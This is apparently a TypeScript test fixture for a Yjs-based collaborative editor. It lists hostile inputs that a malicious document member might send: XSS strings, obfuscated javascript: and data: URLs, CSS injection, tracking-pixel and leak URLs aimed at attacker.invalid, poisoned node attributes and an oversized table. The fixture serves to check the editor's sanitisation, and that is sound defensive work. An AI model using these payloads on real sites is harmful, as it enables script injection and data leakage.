import type { SealedProvider } from 'y-sealed'
import type * as Y from 'yjs'
import { joinDemo } from './join-demo.ts'

/** A member with valid tokens and a client of their own, who may put any bytes into the document and into awareness. */
export interface HostileMember {
  readonly doc: Y.Doc
  readonly provider: SealedProvider
}

export function joinAsHostileMember(demoUrl: string, documentName: string): Promise<HostileMember> {
  return joinDemo(demoUrl, documentName, 'Mallory')
}

/** Each tries to set `window.pwned` or to call a foreign host, in the way its place would make possible. */
export const HOSTILE_TEXTS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '"><script>window.pwned=1</script>',
  "' onmouseover='window.pwned=1",
  '{{constructor.constructor("window.pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '${window.pwned=1}',
  '</p></div><script>window.pwned=1</script>',
  '<style>@import "https://attacker.invalid/x.css"</style>',
  '<base href="https://attacker.invalid/">',
  '<a href="javascript:window.pwned=1">x</a>',
]

export const HOSTILE_ADDRESSES = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  ' javascript:window.pwned=1',
  'java\nscript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'javascript\t:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:window.pwned=1',
  'blob:https://attacker.invalid/1',
  'file:///etc/passwd',
  'view-source:javascript:window.pwned=1',
]

export const HOSTILE_COLOURS = [
  'red;background:url(https://attacker.invalid/leak)',
  'url(javascript:window.pwned=1)',
  '#fff;position:fixed;inset:0;z-index:99',
  'expression(window.pwned=1)',
  '</style><script>window.pwned=1</script>',
  '#12345678901234567890',
]

/** Addresses of pictures: of scripts, of documents that hold some, of hosts that would learn who reads. */
export const HOSTILE_PICTURES = [
  'https://attacker.invalid/pixel.png',
  '//attacker.invalid/pixel.png',
  'javascript:window.pwned=1',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+',
  'data:image/svg+xml,<svg onload="window.pwned=1"/>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'data:image/png;base64,AAAA" onerror="window.pwned=1',
  'x" onerror="window.pwned=1',
]

/** Attributes of nodes, each of a kind that the schema knows or nearly knows. */
export const HOSTILE_ATTRIBUTES: readonly [node: string, attributes: Record<string, unknown>][] = [
  ['heading', { level: '1 onclick=window.pwned=1' }],
  ['heading', { level: 1, onclick: 'window.pwned=1', style: 'background:url(https://attacker.invalid/leak)' }],
  ['paragraph', { class: 'sign-in', style: 'position:fixed;inset:0', id: 'editor' }],
  ['codeBlock', { language: '"><script>window.pwned=1</script>' }],
  ['orderedList', { start: '1"onfocus="window.pwned=1', type: '"><script>window.pwned=1</script>' }],
]

/** Whoever draws a table of so many columns does nothing else any more. */
export const MANY_COLUMNS = 1_000_000_000
